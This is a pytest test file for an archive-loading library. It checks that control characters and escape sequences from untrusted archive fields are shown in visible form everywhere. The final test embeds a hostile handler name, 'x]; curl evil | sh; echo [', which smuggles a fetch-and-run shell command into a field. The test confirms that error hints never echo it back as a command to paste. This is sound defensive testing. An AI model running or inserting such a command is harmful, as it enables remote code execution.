"""The printed-field family (``tests/adversarial/printed.py``): every control character and
escape sequence in every field an archive or a checkpoint directory brings to a screen, shown
by the command line (text and ``--json``), ``inspect``'s text and HTML, a load's warnings,
report and errors. Nothing raw may come out, and each control must show in its visible form
where the field is shown."""

from __future__ import annotations

import contextlib
import io
import json
import pathlib
import sys
import warnings

import pytest

import zipsave
from zipsave import cli
from zipsave._printable import visible, visible_html, visible_json

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from adversarial import printed  # noqa: E402


def _run(argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = cli.main(argv)
    return code, out.getvalue(), err.getvalue()


def _no_raw(text: str, where: str, *, allow: str = "\n") -> None:
    found = printed.raw_controls(text, allow=allow)
    assert not found, f"{where}: raw {sorted(map(ascii, found))}"


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> dict[str, dict[str, str]]:
    root = tmp_path_factory.mktemp("printed")
    out = {}
    for field in printed.FIELDS:
        folder = root / field.name
        folder.mkdir()
        out[field.name] = {**field.make(str(folder)), "folder": str(folder)}
    return out


@pytest.mark.parametrize("field", printed.FIELDS, ids=lambda f: f.name)
def test_command_line_prints_every_control_visibly(field, made):
    files = made[field.name]
    shown = ""
    for argv in field.cli:
        code, out, err = _run([part.format(**files) for part in argv])
        _no_raw(out, f"{argv} stdout")
        _no_raw(err, f"{argv} stderr")
        assert "please report" not in err, err
        if "--json" in argv and code == 0:
            json.loads(out)  # still JSON: the escapes are JSON's own
        shown += out + err
    if field.every:
        missing = [ascii(c) for c in printed.CONTROLS if visible(c) not in shown and c not in field.cannot_hold]
        assert not missing, f"not shown: {missing}"
    else:
        assert "\\x1b" in shown or "\\x00" in shown or "\\x01" in shown, shown


@pytest.mark.parametrize("field", [f for f in printed.FIELDS if f.api], ids=lambda f: f.name)
def test_inspect_text_html_and_load_show_every_control_visibly(field, made):
    archive = made[field.name]["archive"]
    texts: dict[str, str] = {}
    try:
        info = zipsave.inspect(archive)
    except zipsave.ZipsaveError as err:
        texts["inspect error"] = str(err)
    else:
        texts["inspect"] = str(info)
        html = info._repr_html_()
        _no_raw(html, "inspect html")
        assert "<script" not in html
    report = zipsave.LoadReport()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        try:
            zipsave.load(archive, report=report)
        except zipsave.ZipsaveError as err:
            texts["load error"] = str(err)
            texts["load error args"] = " ".join(map(str, err.args))
    for i, warning in enumerate(caught):
        texts[f"warning {i}"] = str(warning.message)
    texts["report"] = str(report)
    _no_raw(report._repr_html_(), "report html")
    for where, text in texts.items():
        _no_raw(text, where)


def test_printing_the_system_info_shows_controls_visibly(made):
    archive = made["system_info"]["archive"]
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        zipsave.load_archive(archive, print_system_info=True)
    _no_raw(out.getvalue(), "print_system_info")
    assert "\\x1b[2J" in out.getvalue()


def test_a_version_of_many_digits_is_compared_as_text(tmp_path):
    # print_system_info=True converted each version's numbers with int(): 5 000 digits passed
    # Python's limit and the whole load failed (where a program lifts the limit, 200 000 digits
    # took seconds, quadratic); such a version is compared as text
    members = printed.base_members()
    members["system_info.txt"] = (
        "- OS: Linux\n- Python: 3." + "9" * 5000 + "\n- Numpy: 1" + "0" * 5000 + ".0\n"
    ).encode()
    path = printed.write_zip(str(tmp_path / "digits.zip"), members)
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        model = zipsave.load(path, print_system_info=True)
    assert model["lr"] == 0.5
    assert "Python differs: saved 3.999" in out.getvalue() and "Numpy differs" in out.getvalue()


def test_checkpoint_table_and_html_show_controls_visibly(made):
    directory = made["metric_value"]["directory"]
    manager = zipsave.CheckpointManager(directory, read_only=True)
    _no_raw(manager._repr_html_(), "manager html")
    _no_raw(repr(manager), "manager repr")
    names = made["metric_name"]["directory"]
    _no_raw(zipsave.CheckpointManager(names, read_only=True)._repr_html_(), "manager html (names)")


@pytest.mark.parametrize("control", printed.CONTROLS + (printed.SURROGATE,), ids=ascii)
def test_every_error_message_and_warning_is_visible(control):
    # The structured fields of every ZipsaveError and the text of every ZipsaveWarning pass
    # the one printer, whatever the raise site put in them.
    err = zipsave.ArchiveFormatError(
        f"detail {control}", archive=f"a{control}.zip", member=f"m{control}", key=f"k{control}", hint=f"hint {control}"
    )
    assert err.member == f"m{control}"  # the field keeps the name as it is, for programs
    _no_raw(str(err), "message", allow="")
    assert visible(control) in str(err)
    warning = zipsave.ZipsaveWarning(f"w {control}")
    _no_raw(str(warning), "warning", allow="")
    entry = zipsave.SkippedEntry(f"m{control}", f"k{control}", f"t{control}", f"c{control}")
    _no_raw(str(entry), "skipped entry", allow="")
    unsafe = zipsave.UnsafeGlobalError(f"os{control}.system")
    _no_raw(str(unsafe), "unsafe global", allow="")


@pytest.mark.parametrize("control", printed.CONTROLS + (printed.SURROGATE,), ids=ascii)
def test_the_printer_is_visible_idempotent_and_keeps_json_values(control):
    text = f"a{control}b\\x1b"
    shown = visible(text)
    _no_raw(shown, "visible", allow="")
    assert visible(shown) == shown
    assert "<" not in visible_html(f"<{control}>")
    encoded = json.dumps({text: text}, ensure_ascii=False)
    assert json.loads(visible_json(encoded)) == {text: text}
    _no_raw(visible_json(encoded), "visible_json", allow="")


def test_printable_text_passes_as_it_is():
    for text in ("policy.pth", "données/ключ/キー", "a\\x1b", "tab-free text with spaces"):
        assert visible(text) == text
    assert visible("a\tb\nc", lines=True) == "a\\tb\nc"
    assert visible("a\tb\nc") == "a\\tb\\nc"


def test_hints_never_hand_back_an_archive_name_as_a_command_to_paste(tmp_path):
    """A hint may give a command to run; the archive's text is never part of one. An
    ``init.json`` naming the handler ``x]; curl evil | sh; echo [`` was answered with "e.g.
    `pip install zipsave[x]; curl evil | sh; echo []`"."""
    import zipfile

    zipsave.save({"lr": 0.1}, tmp_path / "plain.zip")
    hostile = "x]; curl evil | sh; echo ["
    with zipfile.ZipFile(tmp_path / "plain.zip") as src, zipfile.ZipFile(tmp_path / "h.zip", "w") as out:
        for name in src.namelist():
            if name != "manifest.json":
                out.writestr(name, src.read(name))
        out.writestr("init.json", json.dumps({"handler": hostile}))
    with pytest.raises(zipsave.MissingDependencyError) as caught:
        zipsave.load(tmp_path / "h.zip")
    message = str(caught.value)
    assert f"integration `{hostile}`, which is not installed" in message  # named where it is shown
    assert "pip install" not in message and "a zipsave handler of that name" in message
